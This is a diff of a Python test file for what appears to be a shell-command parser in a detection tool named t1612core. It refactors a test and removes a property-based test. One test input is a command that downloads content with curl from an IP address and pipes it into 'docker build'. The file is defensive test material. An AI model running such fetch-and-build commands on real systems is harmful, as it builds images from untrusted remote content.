@@ -17,9 +17,9 @@ from t1612core.facts.standard_input import MOST_TEXTS, standard_input
 from t1612core.knowledge.feeders import FEEDS
 from t1612core.knowledge.signals.standard_input import SIGNALS
 from t1612core.model import Fact
-from t1612core.shell.grammar import ShellKind, packed
+from t1612core.shell.grammar import packed
 from t1612core.shell.outputs import MOST
-from t1612core.shell.pipelines import pipelines
+from t1612core.shell.reader import read
 from t1612core.shell.source import Source
 from t1612core.shell.unwrap import DEEPEST
 from t1612core.text.escapes import LIMIT as PRINTED
@@ -173,10 +173,12 @@ def test_a_variable_carries_one_script() -> None:
     script = (
         "X=$(curl http://198.51.100.7/D); echo $X $X | docker build - ; echo $X | docker build -"
     )
-    _, first, second = pipelines("sh", Source(script))
+    _, first, second = read("sh", Source(script)).pipelines
+    _, once, twice = first.commands[0].words
+    again = second.commands[0].words[1]
 
-    assert first[0].inner[0].pipelines is first[0].inner[1].pipelines
-    assert first[0].inner[0].pipelines is second[0].inner[0].pipelines
+    assert once.substitutions[0].script is twice.substitutions[0].script
+    assert once.substitutions[0].script is again.substitutions[0].script
 
 
 def test_print_ends_somewhere() -> None:
@@ -199,17 +201,6 @@ def test_any_line_gives_facts_inside_it(shell: str, text: str, end: str, program
         start, stop = fact.span or (-1, -1)
         assert fact.text
         assert 0 <= start < stop <= len(line)
-
-
-@given(LINES, st.sampled_from(["sh", "cmd", "powershell"]))
-@settings(max_examples=200)
-def test_pipelines_are_inside_the_text(text: str, kind: ShellKind) -> None:
-    """Every stage's words have their places."""
-    for line in pipelines(kind, Source(text)):
-        for stage in line:
-            for index in range(len(stage.words.texts)):
-                start, end = stage.words.span(index)
-                assert 0 <= start <= end <= len(text)
 
 
 SH = "sh -c {} | docker build -"
